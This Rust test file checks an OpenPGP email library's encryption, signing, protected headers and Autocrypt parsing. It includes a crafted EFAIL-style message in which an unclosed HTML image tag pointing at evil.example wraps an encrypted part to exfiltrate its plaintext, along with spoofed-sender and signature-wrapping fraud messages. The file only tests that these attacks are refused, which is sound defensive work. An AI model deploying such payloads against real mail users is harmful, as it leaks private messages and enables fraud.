use super::*;
use crate::report::{Container, SignatureState};
use crate::samples::{NOW, entropy, key};
use crate::{AutocryptHeader, Certificate, KeyVersion, PreferEncrypt};

const LETTER: &[u8] = b"Received: from a by b; Fri, 27 Nov 2026 00:00:00 +0000\r\nFrom: Li Wei <wei@trade.example>\r\n\
    To: ana@partner.example\r\nSubject: The new\r\n price\r\nDate: Fri, 27 Nov 2026 00:00:00 +0000\r\n\
    Message-ID: <1@trade.example>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\
    Content-Transfer-Encoding: 8bit\r\n\r\nTen pieces \xe5\x8d\x81 at the old price. \r\n";

fn wei() -> PrivateKey {
    key(1, "wei@trade.example", KeyVersion::V4)
}

fn ana() -> PrivateKey {
    key(2, "ana@partner.example", KeyVersion::V6)
}

fn encrypted_letter(letter: &[u8], signer: Option<&PrivateKey>) -> Vec<u8> {
    let certificates = [ana().certificate(), wei().certificate()];
    let recipients = Recipients::of(&certificates, NOW).unwrap();
    protect(letter, &Protection::Encrypted(&recipients, signer), NOW, &entropy()).unwrap()
}

fn reading(raw: &[u8], certificates: &[Certificate]) -> Result<Option<Read>, PgpError> {
    read(raw, &[&ana()], certificates, NOW)
}

fn text(raw: &[u8]) -> String {
    String::from_utf8_lossy(raw).into_owned()
}

#[test]
fn an_encrypted_letter_comes_back_as_it_was_written() {
    let wei = wei();
    let protected = encrypted_letter(LETTER, Some(&wei));
    let shown = text(&protected);
    assert!(shown.contains("Subject: [...]\r\n") && !shown.contains("price"), "{shown}");
    let structure = mail::message::Structure::parse(&protected);
    let kind = mail::message::ContentEncryption::of(&protected, &structure);
    assert_eq!(kind, Some(mail::message::ContentEncryption::OpenPgp));
    let read = reading(&protected, &[wei.certificate()]).unwrap().unwrap();
    assert_eq!(read.report.encryption, Some(Container::Seipd1));
    assert!(read.report.is_authentic() && read.report.differing.is_empty(), "{:?}", read.report);
    let content = text(&read.content.unwrap());
    assert!(
        content.contains("Subject: The new\r\n price\r\n") && content.contains("Ten pieces 十 at the old price."),
        "{content}"
    );
    assert!(content.starts_with("Received: from a by b") && !content.contains("HP-Outer"), "{content}");
}

#[test]
fn a_payload_speaks_for_nobody_but_its_author() {
    let payload = b"From: Li Wei <wei@trade.example>\r\nX-Tradewind-OpenPGP: decrypted\r\nAuthentication-Results: mail.partner.example; x=pass\r\n\
        Received: from nowhere\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\nHello.\r\n";
    let certificates = [ana().certificate()];
    let recipients = Recipients::of(&certificates, NOW).unwrap();
    let armored = encrypt(payload, &recipients, None, NOW, &entropy()).unwrap();
    let raw = encrypted(b"From: wei@trade.example\r\n", &armored, "b");
    let content = text(&reading(&raw, &[]).unwrap().unwrap().content.unwrap());
    assert_eq!(
        content,
        "From: Li Wei <wei@trade.example>\r\nContent-Type: text/plain; hp=\"cipher\"\r\nMIME-Version: 1.0\r\n\r\nHello.\r\n"
    );
}

#[test]
fn a_signed_letter_stays_readable_and_is_in_seven_bits() {
    let wei = wei();
    let signed = protect(LETTER, &Protection::Signed(&wei), NOW, &entropy()).unwrap();
    assert!(signed.is_ascii(), "{}", text(&signed));
    let report = |raw: &[u8]| reading(raw, &[wei.certificate()]).unwrap().unwrap().report;
    assert!(report(&signed).is_authentic(), "{}", text(&signed));
    // Lines ended otherwise on the way are the same.
    assert!(report(text(&signed).replace("\r\n", "\n").as_bytes()).is_authentic());
    let other = text(&signed).replacen("Subject: The new\r\n price", "Subject: Pay now", 1);
    assert_eq!(
        report(other.as_bytes()).differing,
        [("Subject".to_owned(), "The new price".to_owned(), "Pay now".to_owned())]
    );
    let line = text(&signed).lines().find(|line| line.starts_with("VGVu")).unwrap().to_owned();
    let altered = text(&signed).replace(&line, &line.replacen("VGVu", "VGVv", 1));
    assert_eq!(report(altered.as_bytes()).signatures[0].state, SignatureState::Altered);
}

#[test]
fn a_signature_of_another_is_not_the_authors() {
    let wei = wei();
    let state = |raw: &[u8]| reading(raw, &[wei.certificate()]).unwrap().unwrap().report.signatures[0].state;
    let letter = text(LETTER).replace("Li Wei <wei@trade.example>", "The Boss <boss@trade.example>");
    let signed = protect(letter.as_bytes(), &Protection::Signed(&wei), NOW, &entropy()).unwrap();
    assert_eq!(state(&signed), SignatureState::OtherAddress);
    // The author outside is another than the one within.
    let mismatched = text(&encrypted_letter(LETTER, Some(&wei))).replacen(
        "From: Li Wei <wei@trade.example>",
        "From: The Boss <boss@trade.example>",
        1,
    );
    assert_eq!(state(mismatched.as_bytes()), SignatureState::OtherAddress);
    let report = reading(mismatched.as_bytes(), &[wei.certificate()]).unwrap().unwrap().report;
    assert_eq!(report.differing[0].0, "From");
    let two = text(&protect(LETTER, &Protection::Signed(&wei), NOW, &entropy()).unwrap());
    assert_eq!(state(format!("From: boss@trade.example\r\n{two}").as_bytes()), SignatureState::OtherAddress);
}

/// Direct exfiltration: parts around the encrypted one would carry its content away.
#[test]
fn encrypted_parts_among_others_are_not_opened() {
    let protected = text(&encrypted_letter(LETTER, None));
    let (_, body) = protected.split_once("Content-Type: multipart/encrypted").unwrap();
    let mixed = format!(
        "From: x@evil.example\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n\
         <img src=\"https://evil.example/\r\n--m\r\nContent-Type: multipart/encrypted{body}\r\n--m\r\n\
         Content-Type: text/html\r\n\r\n\">\r\n--m--\r\n"
    );
    assert_eq!(reading(mixed.as_bytes(), &[]), Err(PgpError::PartlyEncrypted));
}

#[test]
fn a_signed_part_is_not_the_message() {
    let wei = wei();
    let signed = text(&protect(LETTER, &Protection::Signed(&wei), NOW, &entropy()).unwrap());
    let (_, body) = signed.split_once("Content-Type: multipart/signed").unwrap();
    let mixed = format!(
        "From: wei@trade.example\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nPay to another account.\r\n--m\r\n\
         Content-Type: multipart/signed{body}\r\n--m--\r\n"
    );
    let report = reading(mixed.as_bytes(), &[wei.certificate()]).unwrap().unwrap().report;
    assert!(
        !report.covers_all && !report.is_authentic() && report.signatures[0].state == SignatureState::Good,
        "{report:?}"
    );
    // One whose signature was taken out, is no signature, or stands behind something else, does not pass for an ordinary letter.
    let at = signed.find("Content-Type: application/pgp-signature").unwrap();
    let cut = signed[..at].rfind("\r\n--").unwrap();
    let end = &signed[signed.rfind("\r\n--").unwrap()..];
    let between = &signed[cut..at];
    let armor = signed.find("-----BEGIN PGP SIGNATURE-----").unwrap();
    for stripped in [
        format!("{}{end}", &signed[..cut]),
        signed.replace("Content-Type: application/pgp-signature;", "Content-Type: text/plain;"),
        format!("{}{between}Content-Type: text/plain\r\n\r\nx{}", &signed[..cut], &signed[cut..]),
        format!("{}none{end}", &signed[..armor]),
    ] {
        let report = reading(stripped.as_bytes(), &[wei.certificate()]).unwrap().unwrap().report;
        assert_eq!(
            report.signatures.iter().map(|it| it.state).collect::<Vec<_>>(),
            [SignatureState::Missing],
            "{stripped}"
        );
        assert!(!report.is_authentic());
    }
    // Without a word of one it is an ordinary letter.
    assert_eq!(reading(LETTER, &[wei.certificate()]), Ok(None));
}

#[test]
fn messages_in_the_text_are_read() {
    let wei = wei();
    let certificates = [ana().certificate()];
    let armored =
        encrypt(b"Ten pieces.", &Recipients::of(&certificates, NOW).unwrap(), Some(&wei), NOW, &entropy()).unwrap();
    let letter =
        |text: &str| format!("From: wei@trade.example\r\nContent-Type: text/plain\r\n\r\n{}", with_crlf_text(text));
    let read = reading(letter(&armored).as_bytes(), &[wei.certificate()]).unwrap().unwrap();
    assert!(read.report.is_inline && read.report.is_authentic(), "{:?}", read.report);
    assert!(read.content.unwrap().ends_with(b"\r\n\r\nTen pieces."));
    assert_eq!(reading(letter("Hello.").as_bytes(), &[]), Ok(None));
}

#[test]
fn keys_in_headers() {
    let wei = wei();
    let field = AutocryptHeader::field(&wei.certificate(), "wei@trade.example", PreferEncrypt::Mutual, NOW).unwrap();
    let letter = [field.as_bytes(), LETTER].concat();
    let found = AutocryptHeader::of_message(&letter, "Wei@trade.example").unwrap();
    assert_eq!((found.address.as_str(), found.prefer), ("wei@trade.example", PreferEncrypt::Mutual));
    assert_eq!(found.certificate.fingerprint(), wei.certificate().fingerprint());
    assert!(found.certificate.check_encrypts(NOW).is_ok());
    assert_eq!(AutocryptHeader::of_message(&letter, "boss@trade.example"), None);
    assert_eq!(AutocryptHeader::of_message(&[field.as_bytes(), &letter].concat(), "wei@trade.example"), None);
    let unknown = field.replacen("; keydata", "; type=1; keydata", 1);
    assert_eq!(AutocryptHeader::parse(unknown.split_once(':').unwrap().1), None);
    let harmless = field.replacen("; keydata", "; _note=1; keydata", 1).replace("\r\n", "");
    assert!(AutocryptHeader::parse(harmless.split_once(':').unwrap().1).is_some());
    assert_eq!(AutocryptHeader::parse("addr=a@b.example; keydata=!!!"), None);
}
